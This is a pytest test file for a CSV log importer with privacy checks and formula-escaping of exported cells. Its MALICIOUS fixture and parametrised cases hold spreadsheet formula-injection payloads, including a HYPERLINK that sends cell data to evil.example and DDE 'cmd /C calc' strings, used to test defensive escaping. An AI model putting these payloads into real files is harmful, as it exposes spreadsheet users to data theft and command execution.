"""A log comes in as it was written, or not at all; what goes out is text and never a formula."""

import csv
import io
from collections.abc import Mapping, Sequence
from datetime import date, timedelta
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from toc.domain.errors import DomainError
from toc.domain.exchange import (
    MOST_BYTES,
    MOST_COLUMNS,
    MOST_IN_CELL,
    MOST_ROWS,
    Change,
    Column,
    DateOrder,
    Log,
    Note,
    NumberStyle,
    ReadRow,
    Repeated,
    RowError,
    Table,
    check_columns,
    compare,
    decode,
    error_csv,
    guess_columns,
    number_columns,
    personal_columns,
    read,
    restored,
    safe_cell,
    table,
)
from toc.domain.indicators import Kind, Reading
from toc.domain.privacy import Personal

DUTCH, ENGLISH = NumberStyle.DUTCH, NumberStyle.ENGLISH
TODAY = date(2025, 12, 31)
PLAIN = {Column.ON: 0, Column.VALUE: 1}

# Samples of logs as they arrive, typed in from the collection "imports" (case numbers 01, 03, 04 and 06).
DUTCH_LOG = (
    "sep=;\r\n"
    "Deelnemernr;Naam begeleider;Instroomdatum;Uitstroomdatum;ZRM Financiën (1-5);Netto inkomen p/m;"
    "Aandeel schuld;Werk na 6 mnd;Opmerking\r\n"
    "B-001;Zoë van 't Hoff;01-02-2025;31-07-2025;2;€ 1.234,50;37,5%;ja;"
    '"Gaat goed; maar ""stopt"" soms"\r\n'
    "B-002;José Núñez;3-2-2025;;3;1.050;12,0%;nee;\r\n"
    'B-003;Çağla Y\u0131lmaz;29-02-2024;01-13-2025;99;n.v.t.;-;weet niet;"meerdere\nregels"\r\n'
    "B-004;Anaïs D\u2019Hondt;2025-02-05;15/08/25;5;985,00;0,5;Ja;45689 is serial\r\n"
    "B-005;Łukasz \u2013 Wójcik;45693;;4;1.234.567,89;1,0;J;punt als duizendtal\r\n"
    "B-006;  ;05-02-25;;;1,234.50;;;US-notatie in NL-bestand\r\n"
)
KOBO_HEADER = (
    '"start";"deelnemer";"t0/datum";"t0/zrm_fin";"t0/hulp";"t0/hulp/schuld";"t0/hulp/zorg";"_id";"_uuid"'
)
KOBO = (
    KOBO_HEADER + "\n"
    '"2025-03-01T09:50:00.000+01:00";"B-001";"2025-03-01";"2";"schuld zorg";"1";"1";"101";"9a1f-01"\n'
    '"2025-03-01T10:00:00.000+01:00";"B-002";"2025-03-02";"4";"werk";"0";"0";"102";"9a1f-02"\n'
    '"2025-03-01T10:20:00.000+01:00";"=B-003";"2025-03-03";"";"schuld weg";"1";"0";"0";"103";"9a1f-03"\n'
)
MALICIOUS = (
    "deelnemer,datum,waarde,opmerking,=1+1 kolom,opmerking\n"
    'M-001,01-03-2025,"7,5","=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")",,x\n'
    "M-002,01-03-2025,\"7,5\",=cmd|' /C calc'!A0,,x\n"
    'M-025,01-03-2025,"7,5","=1+1\n=2+2",,x\n'
    "M-900,01-03-2025,1\n"
    "M-901,01-03-2025,1,a,b,c,d,e\n"
)


def refusal(error: pytest.ExceptionInfo[DomainError]) -> tuple[str, dict[str, object]]:
    return error.value.key, error.value.params


def rows_of(found: Table) -> list[tuple[str, ...]]:
    return [row.cells for row in found.rows]


def log(  # dates and counts in two columns, unless the test says otherwise
    text: str,
    columns: Mapping[Column, int] = PLAIN,
    *,
    kind: Kind = Kind.MEAN,
    style: NumberStyle = DUTCH,
    left_out: Sequence[int] = (),
) -> Log:
    return read(table(text), columns, kind=kind, style=style, today=TODAY, left_out=left_out)


def reading(value: str, on: date) -> Reading:
    return Reading(on=on, value=Decimal(value))


# --- Bytes --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_the_encoding_is_found(encoding: str) -> None:
    found = decode(DUTCH_LOG.encode(encoding))
    assert (found.text, found.encoding, found.notes) == (DUTCH_LOG, encoding, ())


def test_windows_1252_is_read_and_said() -> None:
    # Sample 01b: the same log; the letters that Windows-1252 has not are written without their accents.
    text = DUTCH_LOG.translate(str.maketrans("ğ\u0131Ł", "giL"))
    found = decode(text.encode("cp1252"))
    assert (found.text, found.encoding, found.notes) == (text, "cp1252", (Note("file.read_as_cp1252"),))
    for words in ("Zoë van 't Hoff", "€ 1.234,50", "D\u2019Hondt"):
        assert words in found.text
    assert "Ã«" not in found.text
    assert "\ufffd" not in found.text


@pytest.mark.parametrize(
    ("content", "key"),
    [
        (b"", "file.empty"),
        (b"\xef\xbb\xbf \r\n", "file.empty"),
        (b"a;b\x00c", "file.nul"),
        ("a;b".encode("utf-16-le"), "file.nul"),  # without byte order mark
        (b"\xef\xbb\xbfZo\xeb", "file.encoding_unknown"),  # says UTF-8 and is not
        (b"Zo\xeb \x81", "file.encoding_unknown"),  # neither UTF-8 nor Windows-1252
        (b"\xff\xfea", "file.encoding_unknown"),  # half a character
        ("a;b".encode("utf-32"), "file.encoding_unknown"),
        (b"PK\x03\x04\x14\x00", "file.is_spreadsheet"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1", "file.is_spreadsheet"),
        (b"%PDF-1.7", "file.is_pdf"),
        (b"a" * (MOST_BYTES + 1), "file.too_large"),
    ],
    ids=range(12),
)
def test_a_file_that_cannot_be_read_is_refused(content: bytes, key: str) -> None:
    with pytest.raises(DomainError) as refused:
        decode(content)
    assert refused.value.key == key


@given(content=st.binary(max_size=200))
def test_decoding_never_replaces_a_character(content: bytes) -> None:
    try:
        found = decode(content)
    except DomainError:
        return
    again = found.text.encode(found.encoding)
    # UTF-16 is written back in this machine's order of bytes.
    assert again == content or found.encoding == "utf-16"


# --- Tables -------------------------------------------------------------------------------------------------


def test_the_dutch_sample_as_a_table() -> None:
    found = table(DUTCH_LOG)
    assert found.headers[0] == "Deelnemernr"
    assert found.delimiter == ";"
    assert found.notes == (Note("table.sep_line", {"delimiter": ";"}),)
    assert len(found.rows) == 6
    assert found.errors == ()
    assert found.rows[0].cells[-1] == 'Gaat goed; maar "stopt" soms'
    assert found.rows[2].cells[-1] == "meerdere\nregels"
    # The third row takes two lines.
    assert [(row.number, row.line) for row in found.rows] == [(1, 3), (2, 4), (3, 5), (4, 7), (5, 8), (6, 9)]


def test_a_row_with_an_extra_cell_is_an_error_with_its_number() -> None:
    found = table(KOBO)
    assert found.delimiter == ";"
    assert [row.number for row in found.rows] == [1, 2]
    assert found.errors == (RowError(3, 4, None, "row.ragged", {"expected": 9, "found": 10}),)
    assert found.ragged[0].cells[1] == "=B-003"


def test_the_malicious_sample_as_a_table() -> None:
    found = table(MALICIOUS)
    assert found.headers == ("deelnemer", "datum", "waarde", "opmerking", "=1+1 kolom", "opmerking (2)")
    assert found.notes == (Note("table.header_repeated", {"column": "opmerking"}),)
    assert [(error.row, error.line, error.params["found"]) for error in found.errors] == [
        (4, 6, 3),
        (5, 7, 8),
    ]
    assert found.rows[0].cells[3] == '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    assert found.rows[2].cells[3] == "=1+1\n=2+2"


def test_a_quote_that_is_never_closed_refuses_the_file() -> None:
    with pytest.raises(DomainError) as refused:
        table(MALICIOUS + '"M-902,01-03-2025,1,onafgesloten\n')
    assert refusal(refused) == ("table.quote_unclosed", {"line": 8})
    with pytest.raises(DomainError) as refused:
        table('"datum;waarde\n1;2\n')
    assert refusal(refused) == ("table.quote_unclosed", {"line": 1})


def test_text_after_a_closing_quote_refuses_the_file() -> None:
    with pytest.raises(DomainError) as refused:
        table('datum;waarde\n"1"x;2\n')
    assert refusal(refused) == ("table.quote_misplaced", {"line": 2})


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_the_delimiter_is_found(delimiter: str, end: str) -> None:
    lines = [("datum", "waarde", "x"), ("1-1-2025", '"1,5"', "")]
    found = table(end.join(delimiter.join(cells) for cells in lines))
    assert (found.delimiter, rows_of(found)) == (delimiter, [("1-1-2025", "1,5", "")])


def test_the_header_tells_the_delimiter_and_not_the_most_frequent_sign() -> None:
    found = table("datum;waarde\n1-1-2025;1,5\n2-1-2025;2,5\n3-1-2025;3,5\n")
    assert found.delimiter == ";"
    found = table("naam, kort;datum;waarde\na;1-1-2025;1\nb;2-1-2025;2\n")
    assert found.headers == ("naam, kort", "datum", "waarde")


def test_a_delimiter_that_the_file_does_not_tell_is_asked() -> None:
    both = "a,b;c\n1,2;3\n"
    for text in (both, "datum\n1\n", " \n"):
        with pytest.raises(DomainError) as refused:
            table(text)
        assert refused.value.key == "table.delimiter_unknown"
    assert table(both, ";").headers == ("a,b", "c")
    assert table(both, ",").headers == ("a", "b;c")


def test_what_the_user_says_goes_before_what_the_file_says() -> None:
    assert table("sep=;\na,b;c\n1,2;3\n", ",").headers == ("a", "b;c")
    assert table("SEP=\t\na\tb\n1\t2\n").delimiter == "\t"
    for text, delimiter in (("sep=|\na|b\n1|2\n", None), ("a|b\n1|2\n", "|")):
        with pytest.raises(DomainError) as refused:
            table(text, delimiter)
        assert refused.value.key == "table.delimiter_unknown"


def test_empty_lines_are_passed_over_and_empty_rows_are_said() -> None:
    found = table("\na;b\n\n1;2\n ; \n;;\n3;4\n\n")
    assert [(row.number, row.line) for row in found.rows] == [(1, 4), (4, 7)]
    assert found.notes == (Note("table.rows_empty", {"count": 2}),)
    assert found.ragged == ()


def test_nameless_columns_stay_nameless() -> None:
    assert table("a;;;a;a\n1;2;3;4;5\n").headers == ("a", "", "", "a (2)", "a (3)")


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ("a;b\n", "table.empty"),
        ("a;b\n;\n", "table.empty"),
        ("a;b\n1;\0\n", "file.nul"),
        (";".join("x" * (MOST_COLUMNS + 1)) + "\n1\n", "table.too_many_columns"),
        ("a;b\n" + "1;2\n" * (MOST_ROWS + 1), "table.too_many_rows"),
        (f"a;b\n1;{'x' * (MOST_IN_CELL + 1)}\n", "table.cell_too_long"),
        (f"a;b\n1;{'x' * 140_000}\n", "table.cell_too_long"),  # beyond what the csv module reads
    ],
    ids=range(7),
)
def test_a_table_that_is_none_is_refused(text: str, key: str) -> None:
    with pytest.raises(DomainError) as refused:
        table(text)
    assert refused.value.key == key


def test_the_largest_table_and_cell_are_read() -> None:
    assert len(table("a;b\n" + "1;2\n" * MOST_ROWS).rows) == MOST_ROWS
    assert len(table(f"a;b\n1;{'x' * MOST_IN_CELL}\n").rows[0].cells[1]) == MOST_IN_CELL


def test_a_table_without_delimiter_of_its_own_can_be_empty() -> None:
    with pytest.raises(DomainError) as refused:
        table("\n\n", ";")
    assert refused.value.key == "table.empty"


words = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=8)


@given(
    rows=st.lists(st.lists(words, min_size=3, max_size=3), min_size=1, max_size=6),
    delimiter=st.sampled_from([",", ";", "\t"]),
)
def test_a_table_that_was_written_is_read_back(rows: list[list[str]], delimiter: str) -> None:
    written = io.StringIO(newline="")
    csv.writer(written, delimiter=delimiter, quoting=csv.QUOTE_ALL).writerows([["a", "b", "c"], *rows])
    filled = [tuple(row) for row in rows if any(cell.strip() for cell in row)]
    if filled:
        found = table(decode(written.getvalue().encode()).text, delimiter)
        assert rows_of(found) == filled
        assert found.errors == ()


# --- Columns ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("headers", "columns"),
    [
        (["Datum", "Waarde", "Opmerking"], {Column.ON: 0, Column.VALUE: 1, Column.NOTE: 2}),
        (["_uuid", "value", "date"], {Column.SOURCE_KEY: 0, Column.VALUE: 1, Column.ON: 2}),
        (["Peildatum", "Teller", "Noemer"], {Column.ON: 0, Column.NUMERATOR: 1, Column.DENOMINATOR: 2}),
        (["date", "numerator", "total"], {Column.ON: 0, Column.NUMERATOR: 1, Column.DENOMINATOR: 2}),
        (["datum_meting", "aantal", "totaal"], {Column.ON: 0, Column.VALUE: 1}),  # a whole without its part
        (["dag", "datum", "datum"], {Column.ON: 1}),
        (["kleur", ""], {}),
        (["start", "t0/datum", "t0/zrm_fin", "_uuid"], {Column.ON: 1, Column.SOURCE_KEY: 3}),
    ],
)
def test_columns_are_guessed_by_their_names(headers: list[str], columns: dict[Column, int]) -> None:
    assert guess_columns(headers) == columns


PAIR = {Column.ON: 0, Column.NUMERATOR: 1, Column.DENOMINATOR: 2}


@pytest.mark.parametrize(
    ("columns", "kind", "key"),
    [
        ({Column.VALUE: 1}, Kind.COUNT, "columns.missing"),
        ({Column.ON: 0}, Kind.COUNT, "columns.missing"),
        (PLAIN, Kind.PROPORTION, "columns.missing"),
        ({Column.ON: 0, Column.NUMERATOR: 1}, Kind.PROPORTION, "columns.missing"),
        (PAIR | {Column.VALUE: 1}, Kind.PROPORTION, "columns.unexpected"),
        (PAIR | {Column.VALUE: 1}, Kind.COUNT, "columns.unexpected"),
        (PLAIN | {Column.NOTE: 3}, Kind.COUNT, "columns.unknown"),
        (PLAIN | {Column.NOTE: -1}, Kind.COUNT, "columns.unknown"),
        (PLAIN | {Column.NOTE: 1}, Kind.COUNT, "columns.twice"),
    ],
)
def test_a_choice_of_columns_that_gives_no_reading_is_refused(
    columns: dict[Column, int], kind: Kind, key: str
) -> None:
    with pytest.raises(DomainError) as refused:
        check_columns(table("a;b;c\n1;2;3\n"), columns, kind)
    assert refused.value.key == key


def test_a_proportion_has_two_columns_of_numbers() -> None:
    assert number_columns(Kind.PROPORTION) == (Column.NUMERATOR, Column.DENOMINATOR)
    assert number_columns(Kind.YES_NO) == (Column.VALUE,)
    check_columns(table("a;b;c\n1;2;3\n"), PAIR, Kind.PROPORTION)


# --- Privacy ------------------------------------------------------------------------------------------------


def test_a_column_of_citizen_service_numbers_refuses_the_file() -> None:
    by_name = "datum;waarde;BSN\n1-1-2025;1;x\n"
    by_cells = "datum;waarde;nr\n1-1-2025;1;111222333\n2-1-2025;1;'111222333\n3-1-2025;1;5\n4-1-2025;1;\n"
    for text in (by_name, by_cells):
        with pytest.raises(DomainError) as refused:
            log(text, left_out=[2])
        assert refused.value.key == "import.bsn"


def test_a_number_that_only_looks_like_one_can_be_left_out() -> None:
    # One of three passes the test of eleven, as one in eleven numbers does.
    text = "datum;waarde;nr\n1-1-2025;1;111222333\n2-1-2025;1;111222334\n3-1-2025;1;111222335\n"
    with pytest.raises(DomainError) as refused:
        log(text)
    assert refusal(refused) == ("import.personal", {"column": "nr", "kind": Personal.BSN})
    assert len(log(text, left_out=[2]).rows) == 3


def test_a_personal_column_is_left_out_when_the_user_says_so() -> None:
    text = "datum;waarde;Naam begeleider\n1-1-2025;1;Zoë\n"
    with pytest.raises(DomainError) as refused:
        log(text)
    assert refusal(refused) == ("import.personal", {"column": "Naam begeleider", "kind": Personal.NAME})
    assert len(log(text, left_out=[2]).rows) == 1
    # Used, it is refused whatever the user says.
    with pytest.raises(DomainError):
        log(text, PLAIN | {Column.NOTE: 2}, left_out=[2])


def test_a_personal_number_in_a_cell_is_an_error_that_does_not_repeat_it() -> None:
    text = "datum;waarde;opmerking\n1-1-2025;1;bel 06-12345678\n2-1-2025;2;goed\n3-1-2025;3;prima\n"
    found = log(text, PLAIN | {Column.NOTE: 2})
    assert found.errors == (RowError(1, 2, "opmerking", "row.personal", {"kind": Personal.PHONE}),)
    assert [row.note for row in found.rows] == ["goed", "prima"]
    assert "12345678" not in repr(found.errors)


def test_what_is_personal_is_seen_in_every_column() -> None:
    found = personal_columns(table("e-mail;x;y;z\n;a@b.nl;06-12345678;1\n;;c@d.nl;2\n;;06-87654321;3\n"))
    assert [(column.position, column.kind, column.by_name, column.cells) for column in found] == [
        (0, Personal.EMAIL, True, 0),
        (1, Personal.EMAIL, False, 1),
        (2, Personal.PHONE, False, 3),
    ]
    assert not any(column.refused for column in found)


# --- Rows ---------------------------------------------------------------------------------------------------


def test_the_dutch_sample_is_read_row_by_row() -> None:
    """Oracle: the expected results of sample 01a for its columns of income, date and share."""
    income = log(DUTCH_LOG, {Column.ON: 2, Column.VALUE: 5}, left_out=[1])
    assert [(row.row, row.reading) for row in income.rows] == [
        (1, reading("1234.50", date(2025, 2, 1))),
        (2, reading("1050", date(2025, 2, 3))),
        (4, reading("985.00", date(2025, 2, 5))),
    ]
    assert income.missing == 1
    assert [(error.row, error.column, error.key, error.original) for error in income.errors] == [
        (5, "Instroomdatum", "date.serial", "45693"),
        (6, "Instroomdatum", "date.two_digit_year", "05-02-25"),
        (6, "Netto inkomen p/m", "number.unreadable", "1,234.50"),
    ]
    left = log(DUTCH_LOG, {Column.ON: 3, Column.VALUE: 4}, left_out=[1])
    assert [(error.row, error.key) for error in left.errors] == [
        (2, "date.missing"),
        (3, "date.no_such_day"),
        (4, "date.two_digit_year"),
        (5, "date.missing"),
    ]
    shares = log(DUTCH_LOG, {Column.ON: 2, Column.VALUE: 6}, left_out=[1])
    assert [(error.row, error.key) for error in shares.errors][:2] == [
        (1, "number.percent"),
        (2, "number.percent"),
    ]


def test_a_code_for_missing_is_missing_only_when_it_was_declared() -> None:
    scores = table("datum;waarde\n1-1-2025;99\n2-1-2025;0\n3-1-2025;N.V.T.\n4-1-2025; \n")
    plain = read(scores, PLAIN, kind=Kind.COUNT, style=DUTCH, today=TODAY)
    assert ([str(row.reading.value) for row in plain.rows], plain.missing) == (["99", "0"], 2)
    declared = read(scores, PLAIN, kind=Kind.COUNT, style=DUTCH, today=TODAY, missing=["99", " n.v.t. "])
    # Missing is not zero.
    assert ([str(row.reading.value) for row in declared.rows], declared.missing) == (["0"], 3)


def test_a_proportion_is_read_from_its_two_columns() -> None:
    text = (
        "datum,teller,noemer\n2025-01-01,72,120\n2025-02-01,,\n2025-03-01,5,\n2025-04-01,-,9\n"
        "2025-05-01,9,0\n2025-06-01,3,2\n"
    )
    found = log(text, PAIR, kind=Kind.PROPORTION, style=ENGLISH)
    assert [(row.reading.value, row.reading.denominator) for row in found.rows] == [
        (Decimal("0.6"), Decimal(120))
    ]
    assert found.missing == 1
    assert [(error.row, error.column, error.key) for error in found.errors] == [
        (3, "noemer", "measurement.pair_half"),
        (4, "teller", "measurement.pair_half"),
        (5, "teller", "measurement.denominator_zero"),
        (6, "teller", "measurement.part_exceeds_whole"),
    ]


def test_a_row_says_all_that_is_wrong_with_it() -> None:
    found = log("datum;waarde\nmorgen;veel\n1-1-2026;1\n1-1-2025;1,5\n", kind=Kind.COUNT)
    assert [(error.row, error.line, error.column, error.key, error.original) for error in found.errors] == [
        (1, 2, "datum", "date.unreadable", "morgen"),
        (1, 2, "waarde", "number.unreadable", "veel"),
        (2, 3, "datum", "measurement.in_future", "1-1-2026"),
        (3, 4, "waarde", "measurement.not_whole", "1,5"),
    ]


def test_ragged_rows_stand_between_the_other_errors() -> None:
    found = log("datum;waarde\nx;1\n1-1-2025\n3-1-2025;x\n")
    assert [(error.row, error.key) for error in found.errors] == [
        (1, "date.unreadable"),
        (2, "row.ragged"),
        (3, "number.unreadable"),
    ]


def test_month_first_is_read_when_the_user_says_so() -> None:
    american = table("date,value\n2/13/2025,1\n")
    found = read(american, PLAIN, kind=Kind.COUNT, style=ENGLISH, today=TODAY, order=DateOrder.MONTH_FIRST)
    assert found.rows == (ReadRow(1, 2, reading("1", date(2025, 2, 13))),)


def test_a_column_with_two_meanings_is_asked() -> None:
    found = log("datum;waarde\n1-1-2025;12\n2-1-2025;1.050\n3-1-2025;n.v.t.\n")
    (ask,) = found.asks
    assert (ask.column, ask.example) == ("waarde", "1.050")
    assert ask.meanings == {DUTCH: Decimal(1050), ENGLISH: Decimal("1.05")}
    # One cell that is a number in one style only tells the rest.
    assert log("datum;waarde\n1-1-2025;1.050\n2-1-2025;0,5\n").asks == ()
    assert log("datum;waarde\n1-1-2025;12\n").asks == ()


def test_the_same_row_twice_is_passed_over_and_another_value_is_an_error() -> None:
    found = log("datum;waarde\n1-1-2025;6\n1-1-2025;6,0\n2025-01-01;7\n2-1-2025;8\n")
    assert [row.row for row in found.rows] == [1, 4]
    assert found.repeated == (Repeated(2, 3, first=1),)
    assert found.errors == (RowError(3, 4, "datum", "row.day_twice", {"first": 1, "on": date(2025, 1, 1)}),)


def test_a_key_of_the_source_belongs_to_one_day() -> None:
    text = (
        "datum;waarde;_uuid\n1-1-2025;6;u-1\n1-1-2025;6;u-1\n2-1-2025;7;u-1\n3-1-2025;8;\n4-1-2025;8; u-2\n"
    )
    found = log(text, PLAIN | {Column.SOURCE_KEY: 2})
    assert [(row.row, row.source_key) for row in found.rows] == [(1, "u-1"), (4, ""), (5, "u-2")]
    assert [each.row for each in found.repeated] == [2]
    assert [(error.row, error.column, error.key) for error in found.errors] == [(3, "_uuid", "row.key_twice")]


# --- Plan ---------------------------------------------------------------------------------------------------


def test_the_same_file_twice_is_harmless_and_a_changed_value_is_a_correction() -> None:
    first = log("datum;waarde\n1-1-2025;6\n1-2-2025;7\n")
    plan = compare({}, first.rows)
    assert (plan.new, plan.changed, plan.unchanged) == (first.rows, (), ())
    known = {row.reading.on: row.reading for row in plan.new}
    assert compare(known, first.rows).unchanged == first.rows
    second = log("datum;waarde\n1-1-2025;6,0\n1-2-2025;8\n1-3-2025;9\n")
    plan = compare(known, second.rows)
    assert plan.unchanged == second.rows[:1]
    assert plan.changed == (Change(second.rows[1], reading("7", date(2025, 2, 1))),)
    assert plan.new == second.rows[2:]


def test_the_same_share_of_another_whole_is_a_change() -> None:
    (row,) = log("datum;teller;noemer\n1-1-2025;6;10\n", PAIR, kind=Kind.PROPORTION).rows
    sixty = Reading(on=row.reading.on, value=Decimal("0.6"), numerator=Decimal(60), denominator=Decimal(100))
    assert compare({sixty.on: sixty}, [row]).changed == (Change(row, sixty),)


@given(
    values=st.dictionaries(st.dates(date(1900, 1, 1), TODAY), st.integers(-(10**7), 10**7), min_size=1),
    style=st.sampled_from(NumberStyle),
)
def test_a_log_that_was_written_is_read_back_and_adds_nothing_twice(
    values: dict[date, int], style: NumberStyle
) -> None:
    known = {on: reading(str(Decimal(count).scaleb(-3)), on) for on, count in values.items()}
    point = "," if style is DUTCH else "."
    lines = [f"{on.isoformat()};{str(each.value).replace('.', point)}" for on, each in known.items()]
    found = log("\n".join(["date;value", *lines]), kind=Kind.SUM, style=style)
    # Shorter than nine digits, which may look like a citizen service number.
    assert found.errors == ()
    assert len(found.rows) == len(known)
    assert compare(known, found.rows).unchanged == found.rows


# --- Cells --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+31612345678",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\rx",
        "\tx",
        "\nx",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1+1",
        "\uff20SUM",
        "\u22121",
        "  =1",
        '"=1+1"',
        "'=1+1",
        "\u201c=1",
        "\ufeff=1",
        "\u200b\u00a0=1",
        "=1+1\n=2+2",
        "-",
        "-1-1",
        "-1,2,3",
    ],
)
def test_a_cell_that_could_be_a_formula_gets_one_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert restored(safe_cell(text)) == text


@pytest.mark.parametrize(
    "text", ["", " ", "a=b", "7,5", "-7,5", "-12", "-0.5", "Zoë van 't Hoff", "'t Hoff", "''", "1=1", "(=1)"]
)
def test_any_other_cell_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text
    assert restored(text) == text


cells = st.text(
    st.one_of(st.sampled_from("'\"=+-@ \t\r\n1.,\uff1d\u2212\ufeff"), st.characters()), max_size=8
)


@given(text=cells)
def test_making_a_cell_safe_can_be_undone_exactly(text: str) -> None:
    safe = safe_cell(text)
    assert restored(safe) == text
    assert safe in {text, "'" + text}
    assert not safe.startswith(("=", "+", "@", "\t", "\r", "\uff1d"))
    assert not safe.startswith("-") or safe.lstrip("-").replace(",", ".", 1).replace(".", "", 1).isdecimal()


# --- The file of errors -------------------------------------------------------------------------------------


def test_the_rows_at_fault_go_back_with_their_reasons_and_without_formulas() -> None:
    text = (
        "Naam;datum;waarde;=kop;_tel\n"
        "Zoë;1-1-2025;1;x;\n"
        "José;x;-5,5;=1+1;06-12345678\n"
        "Anna;x;y;'=1;\n"
        "Ben;1-1-2025\n"
    )
    found = table(text)
    columns = {Column.ON: 1, Column.VALUE: 2}
    result = read(found, columns, kind=Kind.COUNT, style=DUTCH, today=TODAY, left_out=[0, 4])
    written = error_csv(found, result.errors, labels=("regel", "reden"), say=lambda error: f"={error.key}.")
    assert written == (
        "regel;reden;Naam;datum;waarde;'=kop;_tel\r\n"
        "3;'=date.unreadable.;;x;-5,5;'=1+1;\r\n"
        "4;'=date.unreadable. =number.unreadable.;;x;y;'=1;\r\n"
        "5;'=row.ragged.;;1-1-2025\r\n"
    )
    assert error_csv(found, [], labels=("a", "b"), say=str) == "a;b;Naam;datum;waarde;'=kop;_tel\r\n"


def test_a_corrected_file_of_errors_can_be_imported() -> None:
    found = table("datum;waarde;opmerking\n1-1-2025;x;=ok\n")
    columns = PLAIN | {Column.NOTE: 2}
    errors = read(found, columns, kind=Kind.SUM, style=DUTCH, today=TODAY).errors
    written = error_csv(found, errors, labels=("regel", "reden"), say=lambda error: error.key)
    again = table(written.replace(";x;", ";-3;"))
    guessed = guess_columns(again.headers)
    assert guessed == {Column.ON: 2, Column.VALUE: 3, Column.NOTE: 4}
    (row,) = read(again, guessed, kind=Kind.SUM, style=DUTCH, today=TODAY).rows
    assert (row.reading, row.note) == (reading("-3", date(2025, 1, 1)), "=ok")


# --- A large log --------------------------------------------------------------------------------------------


def test_a_long_log_keeps_its_total() -> None:
    first, count = date(1990, 1, 1), 10_000
    lines = [f"{first + timedelta(days=n):%d-%m-%Y};{n // 100},{n % 100:02d}" for n in range(count)]
    found = log("\n".join(["datum;waarde", *lines, *lines]))
    assert sum(row.reading.value for row in found.rows) == Decimal(count * (count - 1) // 2) / 100
    assert (len(found.rows), len(found.repeated), found.errors) == (count, count, ())
